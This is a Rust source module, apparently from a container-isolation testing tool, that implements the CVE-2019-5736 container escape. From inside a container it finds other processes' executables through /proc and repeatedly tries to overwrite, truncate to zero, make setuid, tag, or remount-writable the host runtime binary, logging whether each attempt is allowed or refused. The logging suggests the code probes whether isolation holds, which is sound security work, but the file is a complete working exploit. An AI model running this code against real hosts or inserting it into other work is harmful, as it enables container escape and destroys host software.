//! Writing the program of whoever enters the container, CVE-2019-5736: a runtime's process that runs `/proc/self/exe` of
//! the container is the runtime's own program, seen from inside.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::CString;
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};

use crate::process::{Outcome, call, last_error};

/// What is tried with the program that was found: a path that leads to it, and its descriptor.
type Way = (&'static str, fn(&CString, i64) -> Result<(), i32>);

/// Every way, by the name that it is reported with.
pub const WAYS: [&str; 6] = ["write", "truncate", "change-mode", "attribute", "remount", "copy-of-mount"];

const TRIED: [Way; WAYS.len()] = [
    (WAYS[0], |path, _| write(path)),
    (WAYS[1], |path, _| call(libc::SYS_truncate, &[path.as_ptr() as i64, 0]).map(drop)),
    (WAYS[2], |path, _| {
        call(libc::SYS_fchmodat, &[i64::from(libc::AT_FDCWD), path.as_ptr() as i64, 0o4777]).map(drop)
    }),
    (WAYS[3], |path, _| {
        let (name, value) = (c"user.carob".as_ptr() as i64, c"x".as_ptr() as i64);
        call(libc::SYS_setxattr, &[path.as_ptr() as i64, name, value, 1, 0]).map(drop)
    }),
    (WAYS[4], |path, _| {
        let flags = (libc::MS_REMOUNT | libc::MS_BIND) as i64;
        call(libc::SYS_mount, &[0, path.as_ptr() as i64, 0, flags, 0])?;
        write(path)
    }),
    (WAYS[5], |_, descriptor| write_copy_of_mount(descriptor)),
];

/// Overwrites the beginning of a file.
fn write(path: &CString) -> Result<(), i32> {
    let flags = i64::from(libc::O_WRONLY | libc::O_CLOEXEC);
    let file = call(libc::SYS_openat, &[i64::from(libc::AT_FDCWD), path.as_ptr() as i64, flags])?;
    let text = c"#!/bin/false\n";
    let result = call(libc::SYS_write, &[file, text.as_ptr() as i64, 13]).map(drop);
    let _ = call(libc::SYS_close, &[file]);
    result
}

/// Makes a mount of one's own from what the file was found by, and takes the protection from that.
fn write_copy_of_mount(descriptor: i64) -> Result<(), i32> {
    let empty = c"".as_ptr() as i64;
    let clone = i64::from(libc::AT_EMPTY_PATH) | 1;
    let copy = call(libc::SYS_open_tree, &[descriptor, empty, clone])?;
    // `struct mount_attr`: nothing set, `MOUNT_ATTR_RDONLY` cleared.
    let attributes = [0_u64, 1, 0, 0];
    let pointer = attributes.as_ptr() as i64;
    let changed = call(libc::SYS_mount_setattr, &[copy, empty, i64::from(libc::AT_EMPTY_PATH), pointer, 32]);
    let result = changed.and_then(|_| write(&path_of(copy)));
    let _ = call(libc::SYS_close, &[copy]);
    result
}

fn path_of(descriptor: i64) -> CString {
    CString::new(format!("/proc/self/fd/{descriptor}")).unwrap_or_default()
}

/// Looks for programs that are not this one and tries to overwrite them, without end. `say` gets a line for each program
/// found, and one for each way and outcome that was not seen before: `overwrite write: refused EROFS`.
pub fn run(mut say: impl FnMut(&str)) -> ! {
    let own = fs::metadata("/proc/self/exe").map(|own| (own.dev(), own.ino())).ok();
    let mut held: BTreeMap<(u64, u64), OwnedFd> = BTreeMap::new();
    let mut said = BTreeSet::new();
    loop {
        let mut line = |text: String| {
            if said.insert(text.clone()) {
                say(&text);
            }
        };
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name();
            if !name.as_encoded_bytes().iter().all(u8::is_ascii_digit) {
                continue;
            }
            match open_location(&entry.path().join("exe")) {
                Ok((number, _)) if Some(number) == own => {}
                Ok((number, descriptor)) => {
                    if held.insert(number, descriptor).is_none() {
                        line(format!("overwrite found: {number:?}"));
                    }
                }
                Err(libc::ENOENT | libc::ESRCH) => {}
                Err(number) => line(format!("overwrite open: {}", Outcome::Refused(number))),
            }
        }
        for descriptor in held.values() {
            let number = i64::from(descriptor.as_raw_fd());
            for (name, attempt) in TRIED {
                let outcome =
                    attempt(&path_of(number), number).err().map_or(Outcome::Allowed, Outcome::Refused);
                line(format!("overwrite {name}: {outcome}"));
            }
        }
    }
}

/// A file as a location: what it is, and its descriptor.
fn open_location(path: &std::path::Path) -> Result<((u64, u64), OwnedFd), i32> {
    let file = fs::File::options().read(true).custom_flags(libc::O_PATH).open(path);
    let file = file.map_err(|error| error.raw_os_error().unwrap_or_else(last_error))?;
    let about = file.metadata().map_err(|error| error.raw_os_error().unwrap_or_else(last_error))?;
    Ok(((about.dev(), about.ino()), file.into()))
}
